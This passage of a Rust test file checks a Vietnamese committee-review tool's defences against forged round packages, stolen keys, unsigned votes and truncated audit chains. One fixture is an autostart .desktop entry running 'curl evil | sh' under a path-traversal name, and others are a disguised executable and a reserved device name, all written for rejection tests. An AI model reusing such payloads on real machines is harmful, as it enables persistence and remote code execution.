    let fake_fp = xetkhen_core::packet::key_fingerprint(&attacker.public_hex()).unwrap();
    let rows_before = json(&c.members[0], &["list", "--round", &c.round, "--json"]);

    // On a member's laptop that trusts the secretariat: refused, even when the member is talked
    // into typing the attacker's fingerprint, and even when asked to replace the secretariat's
    // key (the package would still change a known member's key).
    let (err, _) = refused(&c.members[0], &["round", "import", &f]);
    assert!(err.contains("không phải khóa của ban thư ký"), "{err}");
    assert!(
        err.contains(&fake_fp),
        "the fingerprint to compare is shown: {err}"
    );
    let (err, _) = refused(
        &c.members[0],
        &["round", "import", &f, "--trust-secretariat", &fake_fp],
    );
    assert!(err.contains("không phải khóa của ban thư ký"), "{err}");
    let (err, _) = refused(
        &c.members[0],
        &[
            "round",
            "import",
            &f,
            "--trust-secretariat",
            &fake_fp,
            "--replace-secretariat",
        ],
    );
    assert!(
        err.contains("thay khóa của") || err.contains("gán khóa"),
        "{err}"
    );
    assert_eq!(known_key(&c.members[0], victim).unwrap(), victim_key);
    assert_eq!(known_key(&c.members[0], "Thư Ký Giả"), None);
    assert_eq!(
        json(&c.members[0], &["list", "--round", &c.round, "--json"]),
        rows_before
    );
    assert_eq!(
        json(&c.members[0], &["secretariat", "show", "--json"])["fingerprint"],
        c.fp.as_str()
    );

    // On the secretariat's laptop, which handed the round out: refused whatever is confirmed.
    let (err, _) = refused(
        &c.sec,
        &["round", "import", &f, "--trust-secretariat", &fake_fp],
    );
    assert!(err.contains("đã phát gói"), "{err}");
    assert!(known_key(&c.sec, "Thư Ký Giả").is_none());

    // On a new laptop, nothing is taken without the fingerprint confirmed, and the attacker's
    // fingerprint is not the secretariat's.
    let fresh = c.file("may-moi.db");
    let (err, _) = refused(&fresh, &["round", "import", &f]);
    assert!(err.contains("chưa tin cậy khóa của ban thư ký"), "{err}");
    let (err, _) = refused(
        &fresh,
        &["round", "import", &f, "--trust-secretariat", &c.fp],
    );
    assert!(err.contains("không khớp"), "{err}");
    assert!(json(&fresh, &["round", "list", "--json"])
        .as_array()
        .unwrap()
        .is_empty());

    // A package re-signed by the attacker under the genuine secretary's card fails the signature.
    let stolen_name = resign(&c.file("dot-xet.xkdx"), &attacker, |_| {});
    let g = c.s("dot-xet-ky-lai.xkdx");
    std::fs::write(&g, stolen_name).unwrap();
    let (err, _) = refused(&c.members[1], &["round", "import", &g]);
    assert!(err.contains("chữ ký của gói không đúng"), "{err}");
    ok(&c.members[0], &["audit", "verify"]);
}

#[test]
fn the_secretariat_key_is_trusted_from_its_card_and_replaced_only_as_an_audited_act() {
    let c = committee();
    let fresh = c.file("may-moi.db");
    ok(
        &fresh,
        &[
            "reviewer",
            "set",
            "--name",
            "Trương Văn Mới",
            "--position",
            "Ủy viên",
        ],
    );
    let card = c.s("the-thu-ky.json");
    let wrong = xetkhen_core::packet::key_fingerprint(&"ab".repeat(32)).unwrap();
    let (err, _) = refused(&fresh, &["secretariat", "trust", &wrong, "--card", &card]);
    assert!(err.contains("không khớp"), "{err}");
    let v = json(
        &fresh,
        &[
            "secretariat",
            "trust",
            &c.fp.to_lowercase(),
            "--card",
            &card,
            "--json",
        ],
    );
    assert_eq!(v["name"], "Võ Thị Thư");
    ok(&fresh, &["round", "import", &c.s("dot-xet.xkdx")]);

    // A new key for the secretariat (a new laptop) is refused until the member replaces it.
    let other = c.file("ban-thu-ky-moi.db");
    ok(
        &other,
        &[
            "reviewer",
            "set",
            "--name",
            "Võ Thị Thư",
            "--position",
            "Thư ký Hội đồng",
            "--role",
            "secretary",
        ],
    );
    let new_card = c.s("the-thu-ky-moi.json");
    let new_fp = json(&other, &["reviewer", "card", "--out", &new_card, "--json"])["fingerprint"]
        .as_str()
        .unwrap()
        .to_string();
    let (err, _) = refused(
        &fresh,
        &["secretariat", "trust", &new_fp, "--card", &new_card],
    );
    assert!(err.contains("--replace"), "{err}");
    ok(
        &fresh,
        &[
            "secretariat",
            "trust",
            &new_fp,
            "--card",
            &new_card,
            "--replace",
        ],
    );
    let conn = rusqlite::Connection::open(&fresh).unwrap();
    let actions: Vec<String> = conn
        .prepare("SELECT action FROM audit_log WHERE entity = 'secretariat' ORDER BY seq")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert_eq!(actions, ["secretariat.trust", "secretariat.replace"]);
    drop(conn);
    // The old secretariat's packages are no longer taken.
    let (err, _) = refused(&fresh, &["round", "import", &c.s("dot-xet.xkdx")]);
    assert!(err.contains("không phải khóa của ban thư ký"), "{err}");
    ok(&fresh, &["audit", "verify"]);
}

/// A package with one file attached to the first nomination, signed with the secretariat's
/// (stolen) key: the attacker controls the name, the declared media type and the bytes.
fn package_with_file(c: &Committee, name: &str, media_type: &str, data: &[u8]) -> String {
    use base64::Engine;
    let key = secretariat_key(c);
    let id = c.ids[0].clone();
    let forged = resign(&c.file("dot-xet.xkdx"), &key, |b| {
        b["files"] = serde_json::json!([{
            "nomination_id": id,
            "attachment": {
                "sha256": xetkhen_core::audit::sha256_hex(data),
                "file_name": name,
                "media_type": media_type,
                "size": data.len(),
                "added_at": "2026-11-27T08:00:00Z",
            },
            "data": base64::engine::general_purpose::STANDARD.encode(data),
        }]);
    });
    let f = c.s(&format!("goi-tep-{}.xkdx", data.len()));
    std::fs::write(&f, forged).unwrap();
    f
}

#[test]
fn an_attachment_named_to_climb_into_autostart_is_refused_when_the_package_is_taken_in() {
    let c = committee();
    let desktop = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\n";
    let f = package_with_file(
        &c,
        "../../../.config/autostart/x.desktop",
        "application/pdf",
        desktop,
    );
    let (err, _) = refused(&c.members[0], &["round", "import", &f]);
    assert!(err.contains("x.desktop"), "the file is named: {err}");
    assert!(err.contains("chỉ nhận minh chứng"), "{err}");
    let shown = json(&c.members[0], &["show", &c.ids[0], "--json"]);
    assert!(
        shown["shared_evidence"].as_array().unwrap().is_empty(),
        "{shown}"
    );

    // A real PDF under a climbing name keeps only its last component.
    let pdf = b"%PDF-1.4\n% bao cao\n%%EOF\n";
    let f = package_with_file(
        &c,
        "..\\..\\..\\Startup\\bao-cao.pdf",
        "application/pdf",
        pdf,
    );
    let r = json(&c.members[0], &["round", "import", &f, "--json"]);
    assert_eq!(r["files"], 1, "{r}");
    let shown = json(&c.members[0], &["show", &c.ids[0], "--json"]);
    assert_eq!(
        shown["shared_evidence"][0]["file_name"], "bao-cao.pdf",
        "{shown}"
    );
    ok(&c.members[0], &["audit", "verify"]);
}

#[test]
fn an_executable_declared_as_a_pdf_is_refused_on_attach_and_when_the_package_is_taken_in() {
    let c = committee();
    let exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff";
    let f = package_with_file(&c, "x.exe", "application/pdf", exe);
    let (err, _) = refused(&c.members[1], &["round", "import", &f]);
    assert!(err.contains("«x.exe»"), "{err}");
    // Renamed .pdf, its content gives it away.
    let f = package_with_file(&c, "x.pdf", "application/pdf", &exe[..10]);
    let (err, _) = refused(&c.members[1], &["round", "import", &f]);
    assert!(
        err.contains("«x.pdf»") && err.contains("nội dung không phải tệp pdf"),
        "{err}"
    );
    // A device name Windows reserves.
    let f = package_with_file(&c, "CON.pdf", "application/pdf", b"%PDF-1.4\n%%EOF\n");
    let (err, _) = refused(&c.members[1], &["round", "import", &f]);
    assert!(err.contains("CON.pdf"), "{err}");

    // On attach, on the member's own laptop.
    let local = c.file("x.exe");
    std::fs::write(&local, exe).unwrap();
    let (err, _) = refused(
        &c.members[1],
        &["review", &c.ids[0], "--attach", local.to_str().unwrap()],
    );
    assert!(err.contains("x.exe"), "{err}");
    let disguised = c.file("bao-cao.pdf");
    std::fs::write(&disguised, exe).unwrap();
    let (err, _) = refused(
        &c.members[1],
        &["review", &c.ids[0], "--attach", disguised.to_str().unwrap()],
    );
    assert!(err.contains("nội dung không phải tệp pdf"), "{err}");
}

#[test]
fn a_vote_recorded_with_reviewer_naming_another_member_does_not_count() {
    let c = committee();
    let other = "Đặng Quốc Bảo";
    let (err, _) = refused(
        &c.sec,
        &[
            "review",
            &c.ids[0],
            "--reviewer",
            other,
            "--vote",
            "approve",
        ],
    );
    assert!(err.contains("không phải thành viên của máy này"), "{err}");

    // An older version did record it: a review written on the secretariat's laptop in the
    // member's name, with no packet behind it. The secretary votes, and the same row is copied
    // under each member's id, as that version wrote it.
    ok(
        &c.sec,
        &["review", &c.ids[0], "--vote", "approve", "--score", "8"],
    );
    let conn = rusqlite::Connection::open(&c.sec).unwrap();
    conn.execute(
        "INSERT INTO reviews (nomination_id, reviewer_id, body_json, complete, needs_evidence, updated_at)
         SELECT r.nomination_id, m.id, r.body_json, r.complete, r.needs_evidence, r.updated_at
         FROM reviews r JOIN reviewers s ON s.id = r.reviewer_id AND s.is_self = 1,
              reviewers m WHERE m.is_self = 0",
        [],
    )
    .unwrap();
    drop(conn);
    let t = c.tally(&c.sec);
    let b = ballots(&t, &c.ids[0]);
    assert!(
        b.contains(&("Võ Thị Thư".into(), "approve".into())),
        "{b:?}"
    );
    assert!(b.contains(&(other.into(), "not-voted".into())), "{b:?}");
    assert_eq!(
        decision(&t, &c.ids[0]),
        "pending",
        "one signed-for vote of four"
    );
    let csv = c.s("da-thong-qua.csv");
    let (err, _) = refused(
        &c.sec,
        &[
            "export",
            "--round",
            &c.round,
            "--award",
            "bang-khen",
            "--filter",
            "approved",
            "--out",
            &csv,
        ],
    );
    assert!(err.contains("chưa thông qua hồ sơ nào"), "{err}");

    // The member's signed packet counts, and replaces the unsigned row.
    c.vote(0, 0, "reject");
    let p = c.packet(0, "goi.xkgp");
    ok(&c.sec, &["packet", "import", &p]);
    let b = ballots(&c.tally(&c.sec), &c.ids[0]);
    assert!(b.contains(&(other.into(), "reject".into())), "{b:?}");
}

#[test]
fn an_audit_chain_cut_after_a_packet_left_the_laptop_is_caught_against_the_packet() {
    let c = committee();
    c.vote(0, 0, "approve");
    let p = c.packet(0, "goi.xkgp");
    let head = serde_json::from_str::<Value>(
        serde_json::from_str::<Value>(&std::fs::read_to_string(&p).unwrap()).unwrap()["body"]
            .as_str()
            .unwrap(),
    )
    .unwrap()["audit_head"]
        .clone();
    let seq = head["seq"]
        .as_i64()
        .expect("the packet carries the head of the chain");
    let r = json(
        &c.members[0],
        &["audit", "verify", "--against", &p, "--json"],
    );
    assert_eq!(r["against"][0]["status"], "held", "{r}");
    // The round package carries the secretariat's head; on a member's laptop it is not theirs.
    let r = json(
        &c.members[0],
        &[
            "audit",
            "verify",
            "--against",
            &c.s("dot-xet.xkdx"),
            "--json",
        ],
    );
    assert_eq!(r["against"][0]["status"], "not_from_here", "{r}");
    let r = json(
        &c.sec,
        &[
            "audit",
            "verify",
            "--against",
            &c.s("dot-xet.xkdx"),
            "--json",
        ],
    );
    assert_eq!(r["against"][0]["status"], "held", "{r}");

    // The member's chain is cut back to before the vote: by itself, a shorter chain still links.
    let conn = rusqlite::Connection::open(&c.members[0]).unwrap();
    conn.execute("DELETE FROM audit_log WHERE seq >= ?1", [seq - 3])
        .unwrap();
    drop(conn);
    let (err, out) = refused(&c.members[0], &["audit", "verify", "--against", &p]);
    assert!(err.contains("goi.xkgp"), "{err}");
    assert!(out.contains(&format!("mục số {seq}")), "{out}");
}

/// Issue 14: the vote minutes carry the head of the secretary's audit chain inside the bytes the
/// secretary signs, so a chain cut after the minutes left the laptop is caught against them.
#[test]
fn an_audit_chain_cut_after_the_minutes_left_the_laptop_is_caught_against_the_minutes() {
    let c = committee();
    c.vote(0, 0, "approve");
    let p = c.packet(0, "goi.xkgp");
    ok(&c.sec, &["packet", "import", &p]);
    let (p12, _) = c.training_certificate("thu-ky");
    let minutes = c.s("bien-ban.pdf");
    ok(
        &c.sec,
        &[
            "tally",
            "--round",
            &c.round,
            "--minutes",
            &minutes,
            "--sign-p12",
            &p12,
            "--password-env",
            "XETKHEN_TEST_PASSWORD",
        ],
    );
    let r = json(
        &c.sec,
        &["audit", "verify", "--against", &minutes, "--json"],
    );
    let row = &r["against"][0];
    assert_eq!(row["status"], "held", "{r}");
    assert_eq!(row["what"], "minutes", "{r}");
    assert_eq!(row["message"]["code"], "audit_against_held", "{r}");
    let seq = row["head_seq"]
        .as_i64()
        .expect("the minutes carry the head");
    // On another laptop the secretary's chain cannot be checked.
    let r = json(
        &c.members[0],
        &["audit", "verify", "--against", &minutes, "--json"],
    );
    assert_eq!(r["against"][0]["status"], "not_from_here", "{r}");

    // The head is inside the signed bytes: rewriting it breaks the secretary's signature.
    let bytes = std::fs::read(&minutes).unwrap();
    let forged = c.file("bien-ban-sua.pdf");
    let at = bytes
        .windows(b"/Keywords".len())
        .position(|w| w == b"/Keywords")
        .expect("the minutes have keywords");
    let mut changed = bytes;
    let digit = changed[at + 40..]
        .iter()
        .position(u8::is_ascii_hexdigit)
        .unwrap()
        + at
        + 40;
    changed[digit] = if changed[digit] == b'0' { b'1' } else { b'0' };
    std::fs::write(&forged, &changed).unwrap();
    let (err, _) = refused(
        &c.sec,
        &["audit", "verify", "--against", forged.to_str().unwrap()],
    );
    assert!(err.contains("không còn nguyên vẹn"), "{err}");

    // The chain is cut back to before the minutes: by itself, a shorter chain still links.
    let conn = rusqlite::Connection::open(&c.sec).unwrap();
    conn.execute("DELETE FROM audit_log WHERE seq >= ?1", [seq])
        .unwrap();
    drop(conn);
    let (err, out) = refused(&c.sec, &["audit", "verify", "--against", &minutes]);
    assert!(err.contains("bien-ban.pdf"), "{err}");
    assert!(out.contains(&format!("mục số {seq}")), "{out}");
}
